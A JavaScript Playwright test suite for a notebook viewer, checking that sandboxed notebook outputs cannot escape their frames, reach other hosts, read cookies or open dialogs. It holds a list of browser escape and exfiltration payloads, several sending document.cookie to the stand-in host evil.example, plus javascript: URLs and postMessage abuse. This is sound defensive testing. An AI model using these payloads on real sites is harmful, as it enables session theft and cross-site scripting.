// Notebooks that attack their reader, in a real browser: through the page, and each of their outputs opened by itself.
// Nothing of them may run in the application's origin, see a cookie, open a dialog, or call another host.
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import * as browsers from "../lib/browser.mjs";
import { code, notebook, text } from "../lib/notebooks.mjs";
import * as servers from "../lib/server.mjs";

const top = resolve(dirname(fileURLToPath(import.meta.url)), "../../..");
const vectors = JSON.parse(readFileSync(join(top, "viewer/render/testdata/vectors.json"), "utf8"));

// What a script that does run in its own frame may try, to get out of it.
const escapes = [
  "fetch('http://evil.example/fetch').catch(() => {})",
  "fetch('/v1/runs').then(() => alert('read the API'), () => {})",
  "fetch('/v1/runs', { method: 'POST', body: '{}' }).then(() => alert('called the API'), () => {})",
  "const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/xhr'); x.send()",
  "new WebSocket('ws://evil.example/ws')",
  "new EventSource('http://evil.example/events')",
  "navigator.sendBeacon('http://evil.example/beacon', document.cookie)",
  "new Image().src = 'http://evil.example/image?' + document.cookie",
  "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://evil.example/p><link rel=icon href=http://evil.example/i>')",
  "document.body.insertAdjacentHTML('beforeend', '<iframe src=http://evil.example/frame></iframe><object data=http://evil.example/object></object><embed src=http://evil.example/embed>')",
  "document.body.insertAdjacentHTML('beforeend', '<video src=http://evil.example/video autoplay></video><audio src=http://evil.example/audio autoplay></audio>')",
  "document.body.style.background = 'url(http://evil.example/background)'",
  "document.head.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/script.js' }))",
  "import('http://evil.example/module.js').catch(() => {})",
  "new Worker(URL.createObjectURL(new Blob(['importScripts(\"http://evil.example/worker.js\"); fetch(\"http://evil.example/worker\")'])))",
  "const f = document.createElement('form'); f.action = 'http://evil.example/form'; f.method = 'post'; document.body.append(f); f.submit()",
  "window.open('http://evil.example/popup')",
  "top.location = 'http://evil.example/top'",
  "parent.location.href = 'http://evil.example/parent'",
  "location = 'http://evil.example/location'",
  "location.replace('javascript:top.alert(1)')",
  "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://evil.example/refresh' }))",
  "const a = document.createElement('a'); a.href = 'http://evil.example/click'; a.target = '_top'; document.body.append(a); a.click()",
  "const d = document.createElement('a'); d.href = 'data:text/html,<script>top.alert(1)</script>'; d.download = 'x'; document.body.append(d); d.click()",
  "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:19302' }] }).createDataChannel('x')",
  "navigator.serviceWorker.register('/x.js').catch(() => {})",
  "localStorage.setItem('x', 'y'); alert('has storage')",
  "document.cookie = 'x=y'; if (document.cookie) alert('has cookies')",
  "parent.document.body.innerHTML = 'taken over'",
  "parent.postMessage({ nesHeight: 1e9, nesWants: '../../x', nesBundle: 'alert(1)', nesAsk: true }, '*')",
  "parent.postMessage({ nesHeight: '1; x' }, '*'); parent.postMessage(null, '*'); parent.postMessage('x', '*')",
  "for (const w of [top, parent, ...Array.from({ length: parent.length }, (_, i) => parent[i])]) { try { w.eval('alert(1)') } catch {} }",
  "prompt('x'); confirm('x'); print(); alert(1)",
  "document.documentElement.requestFullscreen().catch(() => {}); navigator.clipboard.readText().then(() => alert('clipboard'), () => {})",
];

const cells = () => [
  text("# Attacks"),
  code("import json\nvectors = json.loads(" + JSON.stringify(JSON.stringify(vectors)) + ")\nescapes = json.loads(" + JSON.stringify(JSON.stringify(escapes)) + ")"),
  ...vectors.map((v) => text(v)),
  ...vectors.map((v) => ({ ...code("#"), metadata: { tags: [v.replaceAll(",", ";")] } })),
  code("for v in vectors:\n    display({'text/html': v, 'text/plain': v}, raw=True)"),
  code("for v in vectors:\n    display({'text/markdown': v}, raw=True); display({'text/latex': v}, raw=True); print(v); display({v: v, 'text/plain': v}, raw=True)"),
  code("for v in vectors:\n    display({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">' + v + '</svg>' + '<!--' + 'x' * 20000 + '-->'}, raw=True)"),
  code("for v in vectors[:8]:\n    display({'application/vnd.plotly.v1+json': {'data': [{'type': 'bar', 'x': [v], 'y': [1], 'name': v, 'text': v}], 'layout': {'title': {'text': v}, 'images': [{'source': 'http://evil.example/plotly.png'}]}}}, raw=True)"),
  code("for v in vectors[:8]:\n    display({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'title': v, 'data': {'url': 'http://evil.example/data.json'}, 'mark': 'bar', 'encoding': {'href': {'value': 'javascript:alert(1)'}, 'url': {'value': 'http://evil.example/mark.png'}}}}, raw=True)"),
  code("for e in escapes:\n    display({'text/html': '<p>frame</p><script>' + e + '</script>'}, raw=True)"),
  code("display({'text/html': '<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=http://evil.example><link rel=preload as=image href=http://evil.example/preload><script></script>'}, raw=True)"),
  code("for e in escapes[:4]:\n    display({'application/javascript': e + '; element.append(1)'}, raw=True)"),
  code("raise ValueError(vectors[0])"),
];

const missing = servers.missing() || browsers.missing();
if (missing && process.env.CI) throw new Error(missing);

describe("a notebook that attacks its reader", { skip: missing || false }, () => {
  let server, browser, context, run, home, evil;
  const calls = [], ran = [], dialogs = [], cookies = [];
  before(async () => {
    // Every host but the server's own is this listener: whoever is called, it notices.
    evil = createServer((socket) => {
      socket.on("error", () => {});
      socket.once("data", (d) => calls.push(d.toString("latin1").split("\r\n")[0]));
      calls.push("a connection");
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    });
    await new Promise((done) => evil.listen(0, "127.0.0.1", done));
    server = await servers.Server.start({ notebooks: { "attack.ipynb": notebook(cells()) } });
    run = await server.execute("attack.ipynb");
    home = mkdtempSync(join(tmpdir(), "nes-chromium-"));
    browser = await chromium.launch({
      executablePath: process.env.NES_CHROMIUM || "/usr/bin/chromium", headless: true, env: { ...process.env, HOME: home, XDG_CONFIG_HOME: home, XDG_CACHE_HOME: home },
      args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--host-resolver-rules=MAP evil.example 127.0.0.1:" + evil.address().port + ", MAP *.example 127.0.0.1:" + evil.address().port],
    });
    context = await browser.newContext();
    await context.addCookies([{ name: "session", value: "secret", url: server.url, sameSite: "Lax" }]);
    await context.exposeBinding("nesRan", ({ frame }, origin, what) => { ran.push([origin, frame.url().slice(0, 120), String(what).slice(0, 60)]); });
    // alert is what the vectors call. In the application's origin nobody may.
    await context.addInitScript(() => {
      const tell = window.nesRan;
      window.alert = (what) => tell(self.origin, what);
      addEventListener("securitypolicyviolation", () => {});
    });
    context.on("page", (page) => {
      page.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
      page.on("request", async (r) => {
        const inFrame = r.frame() !== page.mainFrame() && !r.isNavigationRequest();
        if (!inFrame || !r.url().startsWith(server.url)) return;
        const headers = await r.allHeaders().catch(() => ({}));
        if (headers.cookie) cookies.push(r.url());
      });
    });
  });
  after(async () => {
    await browser?.close();
    evil?.close();
    await server?.stop();
    if (home) rmSync(home, { recursive: true, force: true, maxRetries: 5 });
  });
  const settled = () => {
    assert.deepEqual(calls, [], "another host was called");
    assert.deepEqual(dialogs, [], "a dialog was opened");
    assert.deepEqual(ran.filter(([origin]) => origin !== "null"), [], "a script ran in the application's origin");
    assert.deepEqual(cookies, [], "a frame's request carried a cookie");
  };
  let outputs = [];

  test("through the page", { timeout: 300_000 }, async () => {
    assert.equal(run.reason, "CellError", JSON.stringify(run));
    const page = await context.newPage();
    await page.goto(server.url + "/runs/" + run.id);
    await page.waitForLoadState("load");
    for (const frame of await page.locator("iframe.rich").all()) await frame.evaluate((f) => { f.loading = "eager"; });
    for (const fold of await page.locator("details").all()) await fold.evaluate((d) => { d.open = true; });
    await servers.until(() => page.frames().filter((f) => f !== page.mainFrame()).length >= 60, "the frames");
    await page.mouse.wheel(0, 50_000);
    await page.waitForLoadState("networkidle");
    outputs = await page.evaluate(() => [...document.querySelectorAll("iframe.rich,img.picture")].map((e) => e.getAttribute("src")).filter((s) => s && s.startsWith("/")));
    assert.ok(ran.some(([origin]) => origin === "null"), "scripts run in their own frames: else this test proves nothing");
    assert.match(page.url(), new RegExp("/runs/" + run.id));
    assert.equal(await page.locator("h1").first().innerText(), "attack");
    assert.equal(await page.evaluate(() => window.opener), null);
    const drawn = page.frames().filter((f) => f !== page.mainFrame());
    for (const frame of drawn) {
      const seen = await frame.evaluate(() => {
        const tried = {};
        for (const [name, f] of Object.entries({ cookie: () => document.cookie, storage: () => localStorage.length, parent: () => parent.document.title, database: () => indexedDB.open("x") && "" })) {
          try { tried[name] = f(); } catch (err) { tried[name] = err.name; }
        }
        return { origin: self.origin, ...tried };
      }).catch(() => null);
      if (!seen) continue; // it went away, or runs nothing
      assert.equal(seen.origin, "null", frame.url());
      assert.equal(seen.cookie, "SecurityError", frame.url());
      assert.equal(seen.storage, "SecurityError", frame.url());
      assert.equal(seen.parent, "SecurityError", frame.url());
    }
    for (const frame of await page.locator("iframe.rich").all()) {
      assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
      assert.ok(Number(await frame.getAttribute("height")) <= 2000);
    }
    settled();
    await page.close();
  });

  test("each output opened by itself", { timeout: 300_000 }, async () => {
    assert.ok(outputs.length >= 100, outputs.length + " outputs");
    const before = ran.length;
    const held = (answer, address) => {
      assert.match(answer.headers()["content-security-policy"], /^sandbox( allow-scripts)?;/, address);
      assert.equal(answer.headers()["x-content-type-options"], "nosniff", address);
    };
    const left = outputs.slice();
    await Promise.all(Array.from({ length: 4 }, async () => {
      const page = await context.newPage();
      for (let address; (address = left.pop());) {
        const answer = await page.goto(server.url + address, { waitUntil: "domcontentloaded" }).catch((err) => { throw new Error(address + ": " + err.message); });
        held(answer, address);
        assert.match(answer.headers()["content-security-policy"], /^sandbox;/, "what is opened by itself runs nothing: " + address);
        assert.equal(page.url(), server.url + address);
        const twin = address.includes("/frame/") ? address.replace("/frame/", "/body/") : address.replace("/body/", "/table/");
        const other = await page.request.get(server.url + twin);
        if (other.status() !== 404) held(other, twin);
      }
      await page.close();
    }));
    const page = await context.newPage();
    await page.goto(server.url + outputs.find((o) => o.includes("/frame/")));
    await page.waitForTimeout(200);
    assert.equal(ran.length, before, "a script ran: " + JSON.stringify(ran.slice(before, before + 3)));
    settled();
    await page.close();
  });

  test("as one page of the API, and its files", { timeout: 300_000 }, async () => {
    const page = await context.newPage();
    const answer = await page.goto(server.url + "/v1/runs/" + run.id + "/notebook.html");
    assert.match(answer.headers()["content-security-policy"], /^sandbox allow-scripts; default-src 'none'/);
    await page.mouse.wheel(0, 50_000);
    await page.waitForTimeout(1000);
    settled();
    for (const path of ["/notebook", "/log"]) {
      const file = await page.request.get(server.url + "/v1/runs/" + run.id + path);
      assert.match(file.headers()["content-security-policy"] || "", /sandbox/, path);
    }
    settled();
    await page.close();
  });
});

